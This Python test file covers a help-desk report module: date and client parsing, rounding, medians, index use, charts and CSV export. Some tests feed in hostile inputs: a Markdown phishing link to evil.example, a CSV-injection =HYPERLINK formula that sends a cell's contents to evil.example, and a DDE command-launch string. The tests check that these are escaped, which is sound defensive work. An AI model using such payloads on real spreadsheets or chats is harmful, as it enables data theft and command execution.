"""The report's rules and SQL: the period and chat syntax, the formats, medians, the client
filter, and (SQLite) that every query reads a covering index only."""

from __future__ import annotations

import io
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from cards import teams
from handlers import diagnosis
from handlers.reports import build, lines, render_kept, render_png, write_csv
from handlers.reports.cards import hours, percent, report_card, span
from handlers.reports.rules import Period, parse_chat, period_of, read_summary, summary_data
from storage import db
from storage import reports as repo
from storage import tickets as tickets_repo
from storage.models import Ticket
from tests.adaptive_schema import validate_adaptive_card

TODAY = date(2026, 12, 5)
NOW = datetime(2026, 12, 5, 12, tzinfo=UTC)
DAY = datetime(2026, 11, 2, 9, tzinfo=UTC)


def test_chat_syntax_client_and_period() -> None:
    default = Period(date(2026, 9, 7), TODAY)  # the 90 days ending today
    assert parse_chat("", today=TODAY) == (None, default)
    assert parse_chat("acme", today=TODAY) == ("acme", default)
    assert parse_chat("  Acme Corp  2026-01-01 2026-03-31", today=TODAY) == (
        "Acme Corp",
        Period(date(2026, 1, 1), date(2026, 3, 31)),
    )
    assert parse_chat("2026-1-5 2026-01-05", today=TODAY) == (
        None,
        Period(date(2026, 1, 5), date(2026, 1, 5)),
    )
    for typed, says in (
        ("acme 2026-01-01", "Give both days"),
        ("2026-02-30 2026-03-01", "'2026-02-30' is not a date"),
        ("2026-03-01 2026-02-01", "starts after it ends"),
        ("2026-01-01 2026-03-31 acme", "client goes first"),
        ("acme 2026-01-01 corp", "client goes first"),
    ):
        with pytest.raises(ValueError, match=says):
            parse_chat(typed, today=TODAY)


def test_a_period_typed_in_another_date_format_is_refused_not_taken_for_a_client() -> None:
    """Found by a review: `report acme 01/01/2026 31/03/2026` (or 2026/01/01, 2026.01.01, an
    ISO time) was a report on a client named `acme 01/01/2026 31/03/2026` over the default 90
    days: `Opened 0`, a QBR that looks real. A word shaped like a date is a malformed date."""
    for typed, word in (
        ("acme 01/01/2026 31/03/2026", "01/01/2026"),
        ("2026/01/01 2026/03/31", "2026/01/01"),
        ("acme 2026.01.01 2026.03.31", "2026.01.01"),
        ("acme 2026-01-01T00:00 2026-03-31", "2026-01-01T00:00"),
        ("2026-01-01 31.03.2026", "31.03.2026"),
    ):
        with pytest.raises(ValueError, match=f"'{word}' is not a date like 2026-03-31"):
            parse_chat(typed, today=TODAY)
    # Client names with figures in them stay client names.
    assert parse_chat("Route 66 Diner", today=TODAY)[0] == "Route 66 Diner"
    assert parse_chat("24/7 Care 2026-01-01 2026-03-31", today=TODAY)[0] == "24/7 Care"
    assert parse_chat("Client 10023456", today=TODAY)[0] == "Client 10023456"


def test_period_from_either_end() -> None:
    assert period_of(None, None, today=TODAY) == Period(date(2026, 9, 7), TODAY)
    assert period_of(date(2026, 12, 1), None, today=TODAY) == Period(date(2026, 12, 1), TODAY)
    assert period_of(None, date(2026, 3, 31), today=TODAY) == Period(
        date(2026, 1, 1), date(2026, 3, 31)
    )
    with pytest.raises(ValueError, match="2026-12-06 is after 2026-12-05"):
        period_of(date(2026, 12, 6), None, today=TODAY)
    period = Period(date(2026, 1, 1), date(2026, 1, 31))
    assert (period.start, period.end) == (
        datetime(2026, 1, 1, tzinfo=UTC),
        datetime(2026, 2, 1, tzinfo=UTC),  # both days inclusive: up to the next midnight
    )


def test_formats() -> None:
    assert [percent(1, 3), percent(2, 3), percent(3, 3), percent(0, 5)] == [
        "33.3%",
        "66.7%",
        "100%",
        "0%",
    ]
    assert [hours(0), hours(45), hours(210), hours(7200)] == ["0m", "45m", "3h 30m", "120h"]
    assert [span(None), span(45), span(3900), span(90061)] == ["-", "45s", "1h 5m", "1d 1h 1m"]


def test_halves_round_up_as_people_and_spreadsheets_round_them() -> None:
    """Found by a review: one decimal was Python's round-half-to-even on floats, so a CSAT
    average of 3.25 (answers 5, 3, 3, 2) read `3.2` and a response rate of 1 of 16 (6.25%)
    `6.2%`, where the operator's spreadsheet (ROUND) and anyone by hand say 3.3 and 6.3%."""
    assert [percent(1, 16), percent(3, 16), percent(1, 8), percent(1, 160)] == [
        "6.3%",
        "18.8%",
        "12.5%",
        "0.6%",
    ]
    assert [percent(1, 3), percent(2, 3), percent(15, 16), percent(1999, 2000)] == [
        "33.3%",
        "66.7%",
        "93.8%",
        "99.9%",
    ]
    from handlers.reports.cards import average

    assert average((0, 1, 2, 0, 1)) == "3.3"  # 13 / 4 = 3.25
    assert average((0, 0, 0, 3, 1)) == "4.3"  # 17 / 4 = 4.25
    assert average((0, 0, 0, 1, 3)) == "4.8"  # 19 / 4 = 4.75
    assert average((30, 0, 30, 30, 60)) == "3.6"
    assert average((0, 0, 0, 0, 1)) == "5.0" and average((0, 0, 0, 0, 0)) == "-"


# -- the SQL --------------------------------------------------------------------------------------


@pytest.fixture
async def engine(db_url: str) -> AsyncIterator[AsyncEngine]:
    engine = db.create_engine(db_url)
    yield engine
    await engine.dispose()


async def add(engine: AsyncEngine, **fields: Any) -> None:
    sessions = db.session_factory(engine)
    async with sessions() as session, session.begin():
        seq, number = await tickets_repo.next_number(session, prefix="HD")
        values: dict[str, Any] = {
            "status": "open",
            "summary": "x",
            "reproducible": "yes",
            "priority": "P3",
            "tier": "standard",
            "requester_id": "UANA",
            "technician_id": "UTECH",
            "source_platform": "slack",
            "source_channel": "C0HELP",
            "created_at": DAY,
            "respond_by": DAY + timedelta(hours=8),
            "resolve_by": DAY + timedelta(days=3),
        }
        await tickets_repo.create(session, number=number, prefix="HD", seq=seq, **(values | fields))


def scope(client: str | None = None) -> repo.Scope:
    return repo.Scope(
        start=datetime(2026, 11, 1, tzinfo=UTC),
        end=datetime(2026, 12, 1, tzinfo=UTC),
        client=client,
        now=NOW,
    )


async def test_medians_middle_one_or_mean_of_two_and_the_client_in_any_case(
    engine: AsyncEngine,
) -> None:
    for seconds, client in ((40, "Acme"), (10, "ACME "), (30, "Globex"), (20, "acme")):
        await add(engine, client=client, first_response_seconds=seconds, respond_met=True)
    await add(engine, client="Acme", created_at=datetime(2026, 12, 1, tzinfo=UTC))  # after it
    figures = await repo.figures(engine, scope())
    assert figures.median_first_response == 25.0  # (20 + 30) / 2
    assert figures.median_resolution is None  # nothing closed
    acme = await repo.figures(engine, scope("  acme"))
    assert acme.median_first_response == 20.0  # 10, 20, 40
    assert sum(g.opened for g in acme.groups) == 3
    assert {g.client for g in acme.groups} == {"Acme", "ACME ", "acme"}


async def test_targets_without_an_outcome_are_missed_once_overdue(engine: AsyncEngine) -> None:
    await add(engine, respond_by=NOW - timedelta(seconds=1), resolve_by=NOW + timedelta(hours=1))
    await add(engine, respond_met=True, resolve_met=False, status="closed")
    [group] = (await repo.figures(engine, scope())).groups
    assert (group.respond_met, group.respond_missed) == (1, 1)
    assert (group.resolve_met, group.resolve_missed) == (0, 1)  # the open one is not due yet


async def test_a_patterns_error_and_the_clients_are_shown_as_typed_on_teams(
    engine: AsyncEngine,
) -> None:
    """The error text (a pattern's label) and the client come from what people typed: escaped
    on Teams, where a typed Markdown link would otherwise be live in the channel."""
    evil = "[Reset your password here](https://evil.example/login)"
    for _ in range(3):
        await add(engine, client=evil, error_text=evil)
    await diagnosis.backfill_signatures(db.session_factory(engine))
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    summary = await build(engine, period=period, client=evil, now=NOW, pattern_threshold=3)
    card = teams.render_card(report_card(summary))
    validate_adaptive_card(card)
    escaped = r"\[Reset your password here\](https://evil.example/login)"
    values = {fact["title"]: fact["value"] for fact in card["body"][1]["facts"]}
    assert values["Top patterns"] == f"{escaped} (3 tickets: HD-1, HD-2, HD-3)"
    assert values["Time logged"] == "0m"
    assert card["body"][0]["text"].startswith(f"QBR report: {escaped}, 2026-11-01")
    assert evil not in str(card["body"])


async def test_a_summary_kept_for_a_queued_chart_reads_back_the_same(
    engine: AsyncEngine,
) -> None:
    """A Slack chart is drawn by the worker from the summary its outbox row keeps as JSON:
    read back, it is the same summary (figures, whose words the patterns are), and the chart
    drawn from it is the chart drawn from the original."""
    for index in range(3):
        await add(engine, client="Acme", error_text="0x80070005", priority=f"P{index + 1}")
    await add(engine, client="Globex")
    await diagnosis.backfill_signatures(db.session_factory(engine))
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    summary = await build(engine, period=period, client=None, now=NOW, pattern_threshold=3)
    assert summary.patterns and summary.opened == 4
    kept = json.loads(json.dumps(summary_data(summary)))
    assert read_summary(kept) == summary
    assert render_kept(kept) == render_png(summary)
    alone = await build(engine, period=period, client="Initech", now=NOW)
    assert alone.other_clients and read_summary(summary_data(alone)) == alone


async def test_the_clients_named_for_a_client_with_no_ticket_are_typed_text_on_teams(
    engine: AsyncEngine,
) -> None:
    """The clients a report on an unknown client names (most tickets first, one spelling each)
    are typed text: escaped on Teams, in a card the schema takes."""
    evil = "[Reset](https://evil.example/login)"
    for client in (evil, evil, "Acme", " acme ", "ACME", "Globex"):
        await add(engine, client=client)
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    summary = await build(engine, period=period, client="Acme Corp", now=NOW)
    assert summary.other_clients == (("acme", 3), (evil, 2), ("Globex", 1))
    card = teams.render_card(report_card(summary))
    validate_adaptive_card(card)
    said = card["body"][-1]["text"]
    assert said.startswith("No ticket of Acme Corp was opened in this period"), said
    assert r"\[Reset\](https://evil.example/login) 2" in said and evil not in said


async def test_sqlite_reads_covering_indexes_only(engine: AsyncEngine, db_url: str) -> None:
    if not db_url.startswith("sqlite"):
        pytest.skip("SQLite's query plan")
    from sqlalchemy.dialects import sqlite

    async with engine.connect() as conn:

        async def plan(query: Any) -> list[str]:
            sql = query.compile(dialect=sqlite.dialect(), compile_kwargs={"literal_binds": True})
            rows = (await conn.execute(text(f"EXPLAIN QUERY PLAN {sql}"))).all()
            return [row[-1] for row in rows]

        # A client's spellings (resolve): one scan of a narrow index.
        [names, distinct] = await plan(repo._CLIENT_NAMES)
        assert names.startswith("SCAN tickets USING COVERING INDEX") and "DISTINCT" in distinct
        acme = replace(scope("acme"), spellings=("acme", "Acme"))  # as resolve() gives it
        assert await plan(repo._groups_query(acme)) == [
            "SCAN tickets USING COVERING INDEX ix_tickets_report"
        ]
        for index, column in (
            ("ix_tickets_first_response", Ticket.first_response_seconds),
            ("ix_tickets_resolution", Ticket.resolution_seconds),
        ):
            count, middle = repo._median_queries(column, acme)
            walk = f"SEARCH tickets USING COVERING INDEX {index} ({column.key}>?)"
            assert await plan(count) == [walk]
            assert await plan(middle(21)) == [walk]


async def test_report_for_a_non_ascii_client_in_any_case(engine: AsyncEngine) -> None:
    """Clients match in any case, non-ASCII letters too (SQLite's NOCASE and lower() fold
    ASCII only): the figures, the patterns and the CSV export."""
    for client in ("Ärzte Nord", "ÄRZTE NORD ", "ärzte nord"):
        await add(engine, client=client, error_text="Error 0x80070005")
    await add(engine, client="Arzte Nord", error_text="Error 0x80070005")  # not the same
    await diagnosis.backfill_signatures(db.session_factory(engine))
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    for typed in ("Ärzte Nord", "ärzte nord", "  ÄRZTE nord"):
        s = await build(engine, period=period, client=typed, now=NOW)
        assert s.opened == 3 and len(s.patterns) == 1, typed
        assert "3 tickets: HD-1, HD-2, HD-3" in str(s.patterns[0]), typed
        out = io.StringIO()
        assert await write_csv(engine, out, period=period, client=typed, now=NOW) == 3
    # Without the spellings at hand (diagnosis.top_patterns), the patterns look them up.
    found = await diagnosis.patterns_in(
        db.session_factory(engine),
        threshold=3,
        since=datetime(2026, 11, 1, tzinfo=UTC),
        until=datetime(2026, 12, 1, tzinfo=UTC),
        client="ärzte NORD",
    )
    assert [p.numbers for p in found] == [("HD-1", "HD-2", "HD-3")]
    assert (await build(engine, period=period, client="Zeta", now=NOW)).opened == 0


def test_ticket_model_keeps_the_report_columns() -> None:
    columns = set(Ticket.__table__.columns.keys())
    assert {
        "first_response_at",
        "first_response_seconds",
        "resolution_seconds",
        "respond_met",
        "resolve_met",
        "time_minutes",
        "csat_rating",
        "csat_sent_at",
        "fix_confirmed_at",
    } <= columns


def _purple_bars(png: bytes) -> int:
    """How many bars the chart's Time logged panel (bottom right, #9333ea) draws."""
    from PIL import Image

    with Image.open(io.BytesIO(png)) as image:
        rgb = image.convert("RGB")
    width, height = rgb.size
    pixels = rgb.load()
    assert pixels is not None
    rows = [
        y
        for y in range(height // 2, height)
        if any(pixels[x, y] == (147, 51, 234) for x in range(width // 2, width))
    ]
    return sum(1 for i, y in enumerate(rows) if i == 0 or rows[i - 1] != y - 1)


async def test_the_chart_draws_one_bar_per_client_whose_names_start_alike(
    engine: AsyncEngine,
) -> None:
    """Two clients whose names share their first 18 characters are two lines of the card's
    Time logged and two bars of the chart (not one bar drawn over the other under one label)."""
    from handlers.reports import render_png

    await add(engine, client="Northwind Health - Boston", time_minutes=600)
    await add(engine, client="Northwind Health - Chicago", time_minutes=300)
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    summary = await build(engine, period=period, client=None, now=NOW)
    assert summary.minutes_by_client == [
        ("Northwind Health - Boston", 600),
        ("Northwind Health - Chicago", 300),
    ]
    assert _purple_bars(render_png(summary)) == 2


async def test_a_client_typed_with_other_spaces_around_it_is_the_same_client_on_both_databases(
    engine: AsyncEngine,
) -> None:
    """A client pasted with a no-break space or a tab after it is the same client (as for its
    SLA tier, and as the all-clients report sums its time): its report counts it on PostgreSQL
    as on SQLite, its patterns too."""
    for client in ("Acme", "Acme\u00a0", "\tACME"):
        await add(engine, client=client, error_text="Error 0x80070005", time_minutes=60)
    await add(engine, client="Acme Corp", error_text="Error 0x80070005")  # another client
    await diagnosis.backfill_signatures(db.session_factory(engine))
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    everyone = await build(engine, period=period, client=None, now=NOW, pattern_threshold=3)
    assert everyone.minutes_by_client == [("Acme", 180)]
    acme = await build(engine, period=period, client="acme", now=NOW, pattern_threshold=3)
    assert (acme.opened, acme.minutes_total) == (3, 180)
    assert len(acme.patterns) == 1 and "3 tickets: HD-1, HD-2, HD-3" in str(acme.patterns[0])
    out = io.StringIO()
    assert await write_csv(engine, out, period=period, client="ACME", now=NOW) == 3


async def test_a_rate_with_one_miss_in_thousands_is_not_rounded_to_100_percent(
    engine: AsyncEngine,
) -> None:
    """1999 of 2000 targets met is not `100%` (nor 1 of 2000 `0%`): a QBR figure that says
    every target was met while one was missed, on the card and in the chart's title."""
    sessions = db.session_factory(engine)
    async with sessions() as session, session.begin():
        for i in range(2000):
            seq, number = await tickets_repo.next_number(session, prefix="HD")
            await tickets_repo.create(
                session, number=number, prefix="HD", seq=seq, status="closed", summary="x",
                reproducible="yes", priority="P3", tier="standard", requester_id="UANA",
                technician_id="UTECH", source_platform="slack", source_channel="C0HELP",
                created_at=DAY, respond_by=DAY + timedelta(hours=8),
                resolve_by=DAY + timedelta(days=3), respond_met=i > 0, resolve_met=i == 0,
            )  # fmt: skip
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    summary = await build(engine, period=period, client=None, now=NOW)
    facts = dict(line.split(": ", 1) for line in lines(summary)[1:])
    assert facts["Respond met"] == "99.9% (1999 of 2000)"
    assert facts["Resolve met"] == "0.1% (1 of 2000)"
    assert facts["Respond met by priority"] == "P3 99.9% (1999 of 2000)"
    assert [percent(2000, 2000), percent(0, 2000)] == ["100%", "0%"]


async def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    engine: AsyncEngine,
) -> None:
    """A requester's chat display name (anyone sets their own) or a client name that starts
    like a formula is text in the CSV an MSP opens in Excel (OWASP CSV injection): a leading
    apostrophe; ordinary cells are as they were."""
    import csv

    attack = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    await add(engine, requester_name=attack, client="@SUM(1+1)", category="Printing")
    await add(engine, requester_name="-2+3", client="+cmd|' /C calc'!A0")
    await add(engine, requester_name="Ana Lopez", client="Acme", time_minutes=45)
    period = Period(date(2026, 11, 1), date(2026, 11, 30))
    out = io.StringIO()
    assert await write_csv(engine, out, period=period, client=None, now=NOW) == 3
    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(out.getvalue()))}
    assert (rows["HD-1"]["requester"], rows["HD-1"]["client"]) == ("'" + attack, "'@SUM(1+1)")
    assert rows["HD-1"]["category"] == "Printing"
    assert (rows["HD-2"]["requester"], rows["HD-2"]["client"]) == ("'-2+3", "'+cmd|' /C calc'!A0")
    assert (rows["HD-3"]["requester"], rows["HD-3"]["client"]) == ("Ana Lopez", "Acme")
    assert rows["HD-3"]["time_minutes"] == "45" and rows["HD-3"]["created"].startswith("2026-11-02")


def test_chart_labels_of_clients_whose_names_differ_in_the_middle_tell_them_apart() -> None:
    """Found by a review: a bar's label is a long name's start and end, so `Northwind Health
    Boston Clinic` and `Northwind Health Austin Clinic` were two bars under one label
    (`Northwind…n Clinic`): which branch logged the hours could not be read off the chart."""
    from handlers.reports.chart import bar_labels

    names = [
        "Northwind Health Boston Clinic",
        "Northwind Health Austin Clinic",
        "Contoso",
        "Fabrikam Residences North Tower",
    ]
    labels = bar_labels(names)
    assert len(set(labels)) == len(names), labels
    assert labels[2] == "Contoso" and all(len(label) <= 30 for label in labels), labels
    assert labels[3] == "Fabrikam …th Tower"  # alone: as short as before
    assert bar_labels([*names[:2], "others"])[2] == "others"


def test_chart_sla_bars_say_0_percent_apart_from_none_decided() -> None:
    """Found by a review: a priority whose every target was missed (0%) and one with no
    target decided yet were both no bar at all in the chart's SLA panel: the QBR chart could
    not tell "all missed" from "none"; each bar now carries its figure."""
    from handlers.reports.chart import render_png, sla_labels
    from handlers.reports.rules import Rate, Summary

    by = {"P1": Rate(0, 3), "P2": Rate(2, 1), "P3": Rate(0, 0)}
    assert sla_labels(by) == ["0%", "66.7%", "n/a", "n/a"]
    summary = Summary(
        period=Period(date(2026, 1, 1), date(2026, 3, 31)), client=None, opened=6, closed=6,
        by_category=[], by_priority=[("P1", 3), ("P2", 3), ("P3", 0), ("P4", 0)],
        by_resolution=[], respond=Rate(2, 4), resolve=Rate(2, 4),
        respond_by_priority=list(by.items()), resolve_by_priority=list(by.items()),
        median_first_response=None, median_resolution=None, ratings=(0, 0, 0, 0, 0),
        surveys_sent=0, minutes_by_client=[], minutes_total=0, fixes_confirmed=0,
        fixes_unconfirmed=6, patterns=[],
    )  # fmt: skip
    assert render_png(summary).startswith(b"\x89PNG")
